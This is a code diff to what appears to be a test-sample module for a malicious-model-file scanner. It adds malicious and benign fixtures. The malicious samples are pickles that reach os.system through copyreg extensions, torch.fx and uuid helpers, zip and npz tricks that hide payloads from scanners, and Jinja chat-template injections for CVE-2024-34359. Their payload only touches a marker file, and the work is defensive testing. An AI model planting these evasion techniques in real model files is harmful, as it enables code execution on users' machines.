@@ -647,6 +647,123 @@ def pickle_named_tokenizer_model(folder: Path) -> Path:
     return _write(folder, "tokenizer.model", proto(call(sg("os", "system"), s(TOUCH)), 3))
 
 
+# -- third red-team round ------------------------------------------------------------------------
+
+
+def torch_fx_graph_module_reduce(folder: Path) -> Path:
+    """torch.fx pickles a GraphModule as `reduce_graph_module(body, import_block)`, which execs
+    the import block and the code in `body`: a torch module name, not a known-dangerous one."""
+    body = b"}" + s("code") + s("def forward(self):\n    pass\n") + b"s"
+    data = proto(call(g("torch.fx.graph_module", "reduce_graph_module"), body, s(CODE + "\n")), 2)
+    return _write(folder, "graph_module.pt", _torch_zip(_torch_members("archive", data)))
+
+
+def copyreg_extension_registered_in_stream(folder: Path) -> Path:
+    """The pickle registers `os.system` as extension code 240 (copyreg.add_extension), then
+    fetches it with EXT1: no GLOBAL names the callable it finally calls."""
+    register = call(g("copyreg", "add_extension"), s("os"), s("system"), b"K\xf0") + b"0"
+    return _write(folder, "extension.pkl", proto(register + b"\x82\xf0(" + s(TOUCH) + b"tR", 2))
+
+
+def torch_zip_data_descriptors(folder: Path) -> Path:
+    """Members written with data descriptors (flag bit 3, sizes zero in the local headers): a
+    reader that trusts local-header sizes sees an empty data.pkl; PyTorch reads it in full."""
+
+    class Unseekable(io.RawIOBase):
+        def __init__(self) -> None:
+            self.data = bytearray()
+
+        def writable(self) -> bool:
+            return True
+
+        def write(self, b: object) -> int:
+            chunk = bytes(b)  # type: ignore[call-overload]
+            self.data += chunk
+            return len(chunk)
+
+    sink = Unseekable()
+    with zipfile.ZipFile(sink, "w", zipfile.ZIP_STORED) as zf:
+        for name, data in _torch_members("archive", _payload_pickle()):
+            zf.writestr(name, data)
+    return _write(folder, "descriptors.pt", bytes(sink.data))
+
+
+def npz_structured_object_field_member_without_suffix(folder: Path) -> Path:
+    """An object *field* of a structured dtype, in an .npz member not named `.npy`: np.load
+    reads any member that starts with the magic as an array and unpickles its objects."""
+    header = "{'descr': [('id', '<i4'), ('obj', '|O')], 'fortran_order': False, 'shape': (1,), }"
+    header += " " * (63 - (10 + len(header)) % 64) + "\n"
+    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as zf:
+        zf.writestr("weights", npy + _payload_pickle())
+    return _write(folder, "fields.npz", buffer.getvalue())
+
+
+def release_zip_duplicate_name_last_wins(folder: Path) -> Path:
+    """Two members named model.pkl, a harmless one first: zipfile's lookup by name and
+    extraction take the last copy, a reader that keeps the first sees only the harmless one."""
+    import pickle
+
+    buffer = io.BytesIO()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
+        with zipfile.ZipFile(buffer, "w") as zf:
+            zf.writestr("model/model.pkl", pickle.dumps({"w": [0.0, 1.0]}, protocol=2))
+            zf.writestr("model/model.pkl", _payload_pickle())
+    return _write(folder, "release.zip", buffer.getvalue())
+
+
+def pickled_storage_bytes_with_payload(folder: Path) -> Path:
+    """pickle.dumps of a tensor stores its storage as `torch.storage._load_from_bytes(b)`, which
+    torch.loads `b` with weights_only=False: a legacy torch.save inside a bytes argument, whose
+    main pickle carries the call. A scanner that does not open the bytes sees one torch name."""
+    inner = _legacy_header() + _payload_pickle() + proto(b"]", 2)
+    body = call(sg("torch.storage", "_load_from_bytes"), b(inner))
+    return _write(folder, "tensors.pkl", proto(b"}" + s("w") + body + b"s", 4))
+
+
+def uuid_get_command_stdout(folder: Path) -> Path:
+    """uuid's private helper runs `which(command)` with the given arguments (it exists to call
+    ifconfig): `uuid.UUID` is plain data, the module is not."""
+    body = call(g("uuid", "_get_command_stdout"), s("touch"), s(MARKER))
+    return _write(folder, "uuid_helper.pkl", proto(body, 2))
+
+
+#: templates that build `__init__`/`__globals__`/`popen` from pieces: `x['__init__']` falls back
+#: to getattr in a non-sandboxed Jinja environment (llama-cpp-python before 0.2.72 rendered GGUF
+#: chat templates that way: CVE-2024-34359)
+_TEMPLATE_POPEN = "['o' ~ 's']['pop' ~ 'en']('" + TOUCH + "').read() }}"
+TEMPLATES = {
+    "concat": "{% set u = '_' * 2 %}{{ cycler[u ~ 'init' ~ u][u ~ 'globals' ~ u]" + _TEMPLATE_POPEN,
+    "format": "{% set u = '%c%c'|format(95, 95) %}{% set i = u ~ 'init' ~ u %}"
+    "{% set g = u ~ 'globals' ~ u %}{{ (messages|first)[i] and lipsum[g]" + _TEMPLATE_POPEN,
+}
+_CHAT = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
+
+
+def tokenizer_config_template_computed_names(folder: Path) -> Path:
+    import json
+
+    template = _CHAT + TEMPLATES["concat"]
+    return _write(folder, "tokenizer_config.json", json.dumps({"chat_template": template}).encode())
+
+
+def cve_2024_34359_gguf_template_computed_names(folder: Path) -> Path:
+    import gguf
+    import numpy as np
+
+    path = folder / "chat.gguf"
+    writer = gguf.GGUFWriter(str(path), "llama")
+    writer.add_chat_template(_CHAT + TEMPLATES["format"])
+    writer.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
+    writer.write_header_to_file()
+    writer.write_kv_data_to_file()
+    writer.write_tensors_to_file()
+    writer.close()
+    return path
+
+
 MALICIOUS: dict[str, Sample] = {
     f.__name__: f
     for f in (
@@ -722,6 +839,15 @@ MALICIOUS: dict[str, Sample] = {
         pickle_named_config_json,
         torch_zip_named_onnx,
         pickle_named_tokenizer_model,
+        torch_fx_graph_module_reduce,
+        copyreg_extension_registered_in_stream,
+        torch_zip_data_descriptors,
+        uuid_get_command_stdout,
+        npz_structured_object_field_member_without_suffix,
+        release_zip_duplicate_name_last_wins,
+        pickled_storage_bytes_with_payload,
+        tokenizer_config_template_computed_names,
+        cve_2024_34359_gguf_template_computed_names,
     )
 }
 
@@ -738,6 +864,8 @@ _TORCH = {
     "legacy_torch_payload_in_storage_keys",
     "legacy_torch_tar",
     "torch_zip_named_onnx",
+    "torch_fx_graph_module_reduce",
+    "torch_zip_data_descriptors",
 }
 _OTHER = {
     "payload_in_second_pickle": "pickle-all",
@@ -759,6 +887,11 @@ _OTHER = {
     "npy_version3_object_array": "numpy",
     "npz_deflated_object_array": "numpy",
     "joblib_zlib_compressed": "joblib",
+    "npz_structured_object_field_member_without_suffix": "numpy",
+    "release_zip_duplicate_name_last_wins": "archive",
+    "pickled_storage_bytes_with_payload": "pickle",
+    "tokenizer_config_template_computed_names": "jinja",
+    "cve_2024_34359_gguf_template_computed_names": "gguf-jinja",
 }
 #: how a victim loads each malicious sample (see load_code)
 LOADER: dict[str, str] = {
@@ -797,6 +930,18 @@ _LOAD_CODE = {
     ),
     "joblib": "import sys, joblib; joblib.load(sys.argv[1])",
     "archive": _ARCHIVE_LOADER,
+    # a chat template rendered by a non-sandboxed Jinja environment
+    "jinja": (
+        "import json, sys, jinja2\ntemplate = json.load(open(sys.argv[1]))['chat_template']\n"
+        "jinja2.Environment().from_string(template).render(messages=[{'role': 'user', "
+        "'content': 'hi'}])"
+    ),
+    "gguf-jinja": (
+        "import sys, gguf, jinja2\nfield = gguf.GGUFReader(sys.argv[1]).fields["
+        "'tokenizer.chat_template']\ntemplate = bytes(field.parts[field.data[0]]).decode()\n"
+        "jinja2.Environment().from_string(template).render(messages=[{'role': 'user', "
+        "'content': 'hi'}])"
+    ),
 }
 #: after loading, wait for children a payload started (asyncio) so the marker check is exact
 _WAIT_CHILDREN = """
@@ -1006,6 +1151,133 @@ def _torchscript_sample(kind: str) -> Sample:
     return make
 
 
+def _whole_model() -> object:
+    """torch.save(model): the module classes themselves are pickled (torch.nn's own here)."""
+    import torch
+    from torch import nn
+
+    torch.manual_seed(0)
+    return nn.Sequential(
+        nn.Embedding(50, 16),
+        nn.TransformerEncoderLayer(16, 2, 32, activation="gelu"),
+        nn.LayerNorm(16),
+        nn.Linear(16, 50),
+    )
+
+
+def _quantized_state() -> object:
+    import torch
+
+    torch.manual_seed(0)
+    return {
+        "q": torch.quantize_per_tensor(torch.randn(4, 4), 0.1, 10, torch.quint8),
+        "qc": torch.quantize_per_channel(
+            torch.randn(4, 4), torch.full((4,), 0.1), torch.zeros(4), 0, torch.qint8
+        ),
+    }
+
+
+def _training_state() -> object:
+    """What training loops save beside the weights: optimizer and scheduler state, a gradient
+    scaler, RNG states, and the run's configuration as standard-library objects."""
+    import argparse
+    import collections
+    import datetime
+    import pathlib
+    import random
+
+    import numpy as np
+    import torch
+
+    torch.manual_seed(0)
+    model = torch.nn.Linear(4, 2)
+    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
+    scheduler = torch.optim.lr_scheduler.OneCycleLR(optimizer, 1.0, total_steps=10)
+    model(torch.randn(3, 4)).sum().backward()
+    optimizer.step()
+    scheduler.step()
+    return {
+        "optimizer": optimizer.state_dict(),
+        "scheduler": scheduler.state_dict(),
+        "scaler": torch.amp.GradScaler("cpu").state_dict(),
+        "rng": {"torch": torch.get_rng_state(), "numpy": np.random.get_state()},
+        "python_rng": random.Random(0).getstate(),
+        "args": argparse.Namespace(lr=0.1, out=pathlib.PurePosixPath("runs/1")),
+        "saved_at": datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC),
+        "metrics": collections.defaultdict(list, {"loss": [0.5, 0.25]}),
+    }
+
+
+def torch_export_pt2(folder: Path) -> Path:
+    import torch
+
+    torch.manual_seed(0)
+    model = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU())
+    path = folder / "exported.pt2"
+    torch.export.save(torch.export.export(model, (torch.randn(2, 3),)), path)
+    return path
+
+
+def numpy_structured_fortran_npy(folder: Path) -> Path:
+    import numpy as np
+
+    path = folder / "structured.npy"
+    record = np.dtype([("id", "<i4"), ("xy", "<f8", (2,)), ("name", "S5"), ("c", "<c8")])
+    np.save(path, np.asfortranarray(np.zeros((3, 2), dtype=record)))
+    return path
+
+
+def _sklearn_more_models() -> list[object]:
+    """Estimators whose pickles name more than classes: a RandomState, numpy scalar types and
+    ufuncs as parameters, private helper classes, neighbour trees, masked arrays."""
+    import numpy as np
+    from sklearn.calibration import CalibratedClassifierCV
+    from sklearn.compose import ColumnTransformer
+    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
+    from sklearn.feature_extraction.text import TfidfVectorizer
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.model_selection import GridSearchCV
+    from sklearn.neighbors import KNeighborsClassifier
+    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder
+    from sklearn.tree import DecisionTreeClassifier
+
+    rng = np.random.default_rng(0)
+    x = rng.normal(size=(60, 4))
+    y = (x[:, 0] > 0).astype(int)
+    cats = np.c_[x[:, :2], (x[:, 2] > 0).astype(int)]
+    return [
+        RandomForestClassifier(3, random_state=np.random.RandomState(0)).fit(x, y),
+        CalibratedClassifierCV(LogisticRegression(), cv=2).fit(x, y),
+        HistGradientBoostingClassifier(max_iter=3).fit(x, y),
+        KNeighborsClassifier().fit(x, y),
+        TfidfVectorizer().fit(["a small corpus", "of two documents"]),
+        ColumnTransformer([("onehot", OneHotEncoder(), [2])]).fit(cats),
+        FunctionTransformer(np.log1p).fit(np.abs(x)),
+        GridSearchCV(DecisionTreeClassifier(), {"max_depth": [1, 2]}, cv=2).fit(x, y),
+    ]
+
+
+def torch_tensors_plain_pickle(folder: Path) -> Path:
+    """Tensors through pickle.dumps, not torch.save: each storage is a legacy torch.save inside a
+    `torch.storage._load_from_bytes` bytes argument, read as one."""
+    import pickle
+
+    import torch
+
+    torch.manual_seed(0)
+    path = folder / "tensors.pkl"
+    path.write_bytes(pickle.dumps({"w": torch.randn(3, 2), "b": torch.zeros(2)}, protocol=4))
+    return path
+
+
+def sklearn_more_joblib(folder: Path) -> Path:
+    import joblib
+
+    path = folder / "sklearn_more.joblib"
+    joblib.dump(_sklearn_more_models(), path)
+    return path
+
+
 BENIGN: dict[str, Sample] = {
     "torch_transformer_zip": _torch_sample(_transformer_state, legacy=False),
     "torch_transformer_legacy": _torch_sample(_transformer_state, legacy=True),
@@ -1028,4 +1300,12 @@ BENIGN: dict[str, Sample] = {
     "joblib_numpy": joblib_numpy,
     "sklearn_joblib": sklearn_joblib,
     "sklearn_pickle": sklearn_pickle,
+    "torch_whole_model_zip": _torch_sample(_whole_model, legacy=False),
+    "torch_whole_model_legacy": _torch_sample(_whole_model, legacy=True),
+    "torch_quantized_legacy": _torch_sample(_quantized_state, legacy=True),
+    "torch_training_state_zip": _torch_sample(_training_state, legacy=False),
+    "torch_export_pt2": torch_export_pt2,
+    "numpy_structured_fortran_npy": numpy_structured_fortran_npy,
+    "sklearn_more_joblib": sklearn_more_joblib,
+    "torch_tensors_plain_pickle": torch_tensors_plain_pickle,
 }
